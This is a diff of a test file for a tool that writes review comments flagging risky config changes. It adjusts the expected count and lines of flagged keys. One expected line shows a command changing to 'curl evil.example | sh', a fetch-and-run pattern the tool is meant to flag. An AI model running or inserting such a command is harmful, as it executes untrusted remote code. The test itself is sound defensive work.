@@ -31,14 +31,12 @@ describe('what the comment says', () => {
     const config = configOf({}, { maxAttempts: 5, qa: { gates: [{ name: 'test', run: 'true' }] } });
     const comment = commentOf(reviewed({ p: [before, after] }, { config }));
     expect(sections(comment)).toEqual(['⚠️ Read as code', '❌ What is wrong', '▶️ After the merge', 'Plan']);
-    expect(comment.split('\n').slice(2, 14)).toEqual([
-      '**1 plan** changes · **the config** changes · ⚠️ **6 keys to read as code** · ❌ **1 error**',
+    expect(comment.split('\n').slice(2, 12)).toEqual([
+      '**1 plan** changes · **the config** changes · ⚠️ **4 keys to read as code** · ❌ **1 error**',
       '',
       '### ⚠️ Read as code',
       '',
       '- ⚠ `plans.config.json` **maxAttempts**: `3` → `5`',
-      '- ⚠ `plans.config.json` **qa.gates**: `[]` → *nothing*',
-      '- ⚠ `plans.config.json` **qa.gates (order)**: *nothing* → `["test"]`',
       '- ⚠ `plans.config.json` **qa.gates.test.run**: *nothing* → `"true"`',
       '- ⚠ `plans.config.json` **qa.gates.test.timeout**: *nothing* → `"10m"`',
       '- `p/write` ⚠ **run**: `make` → `curl evil.example | sh` (a command that is run)',
